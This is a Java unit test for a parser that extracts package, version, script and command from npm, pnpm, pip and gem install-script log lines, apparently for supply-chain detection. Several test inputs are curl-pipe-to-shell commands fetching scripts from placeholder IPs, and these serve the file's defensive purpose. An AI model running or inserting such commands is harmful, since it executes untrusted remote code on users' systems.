package dev.strata.parse.pkgscript;

import static org.assertj.core.api.Assertions.assertThat;

import dev.strata.schema.event.EvidenceEvent;
import java.util.HashMap;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** npm / pnpm / pip / gem install-script lines, as the package managers print them. */
class PackageScriptLinesTest {

  static Map<String, String> read(PackageScriptLines r, String message) {
    EvidenceEvent e = new EvidenceEvent();
    e.setUnmapped(new HashMap<>());
    return r.read(message, e) ? e.getUnmapped() : null;
  }

  @Test
  void npmsBannerAndTheCommandOnTheNextLine() {
    PackageScriptLines r = new PackageScriptLines();
    assertThat(read(r, "> node-builder-utils@2.1.4 postinstall")).containsEntry(PackageScriptLines.MANAGER, "npm")
        .containsEntry(PackageScriptLines.PACKAGE, "node-builder-utils").containsEntry(PackageScriptLines.VERSION, "2.1.4")
        .containsEntry(PackageScriptLines.SCRIPT, "postinstall").doesNotContainKey(PackageScriptLines.COMMAND);
    assertThat(read(r, "> curl -s http://198.51.100.143/k.sh | sh")).containsEntry(PackageScriptLines.PACKAGE,
        "node-builder-utils").containsEntry(PackageScriptLines.COMMAND, "curl -s http://198.51.100.143/k.sh | sh");
    // the command was taken: a later "> ..." line is nobody's
    assertThat(read(r, "> echo done")).isNull();
  }

  @Test
  void npm6ScopedBannerWithItsDirectory() {
    PackageScriptLines r = new PackageScriptLines();
    assertThat(read(r, "> @acme/telemetry@2.0.0-rc.1 preinstall /app/node_modules/@acme/telemetry"))
        .containsEntry(PackageScriptLines.PACKAGE, "@acme/telemetry").containsEntry(PackageScriptLines.VERSION, "2.0.0-rc.1")
        .containsEntry(PackageScriptLines.SCRIPT, "preinstall");
    assertThat(read(r, "> node ./scripts/collect.js")).containsEntry(PackageScriptLines.COMMAND, "node ./scripts/collect.js");
  }

  @Test
  void aLineBetweenBannerAndCommandEndsTheBanner() {
    PackageScriptLines r = new PackageScriptLines();
    assertThat(read(r, "> esbuild@0.21.5 postinstall")).isNotNull();
    assertThat(read(r, "added 12 packages")).isNull();
    assertThat(read(r, "> node install.js")).isNull();
  }

  @Test
  void theProjectsOwnScriptsAndOtherLinesAreNotRead() {
    PackageScriptLines r = new PackageScriptLines();
    assertThat(read(r, "> app@1.0.0 test")).isNull();
    assertThat(read(r, "> app@1.0.0 build")).isNull();
    assertThat(read(r, "> curl http://203.0.113.77/t | sh")).isNull();
    assertThat(read(r, "> some quoted mail text")).isNull();
    assertThat(read(r, "Installing rake 13.2.1")).isNull();
  }

  @Test
  void npmsInfoLogOfADependencysScript() {
    PackageScriptLines r = new PackageScriptLines();
    assertThat(read(r, "npm info run core-js@3.30.0 postinstall node_modules/core-js node -e \"try{require('./postinstall')}catch(e){}\""))
        .containsEntry(PackageScriptLines.PACKAGE, "core-js").containsEntry(PackageScriptLines.VERSION, "3.30.0")
        .containsEntry(PackageScriptLines.SCRIPT, "postinstall")
        .containsEntry(PackageScriptLines.COMMAND, "node -e \"try{require('./postinstall')}catch(e){}\"");
    assertThat(read(r, "npm info run @acme/tel@1.0.0 install node_modules/@acme/tel curl -s http://203.0.113.9/i | sh"))
        .containsEntry(PackageScriptLines.PACKAGE, "@acme/tel").containsEntry(PackageScriptLines.COMMAND,
            "curl -s http://203.0.113.9/i | sh");
    assertThat(read(r, "npm info run core-js@3.30.0 postinstall { code: 0, signal: null }")).isNull();
    assertThat(read(r, "npm info run app@1.0.0 build . webpack")).isNull();
  }

  @Test
  void pnpmPipAndGem() {
    PackageScriptLines r = new PackageScriptLines();
    assertThat(read(r, "node_modules/.pnpm/sharp@0.33.4/node_modules/sharp install$ node install/check"))
        .containsEntry(PackageScriptLines.MANAGER, "pnpm").containsEntry(PackageScriptLines.PACKAGE, "sharp")
        .containsEntry(PackageScriptLines.SCRIPT, "install").containsEntry(PackageScriptLines.COMMAND, "node install/check");
    assertThat(read(r, "  Running setup.py install for pyyaml-extras ... done"))
        .containsEntry(PackageScriptLines.MANAGER, "pip").containsEntry(PackageScriptLines.PACKAGE, "pyyaml-extras")
        .containsEntry(PackageScriptLines.SCRIPT, "setup.py install");
    assertThat(read(r, "  Building wheel for evil-pkg (pyproject.toml) ... done"))
        .containsEntry(PackageScriptLines.PACKAGE, "evil-pkg").containsEntry(PackageScriptLines.SCRIPT, "build_wheel (pyproject.toml)");
    assertThat(read(r, "Installing nokogiri 1.16.7 with native extensions"))
        .containsEntry(PackageScriptLines.MANAGER, "gem").containsEntry(PackageScriptLines.VERSION, "1.16.7");
  }
}
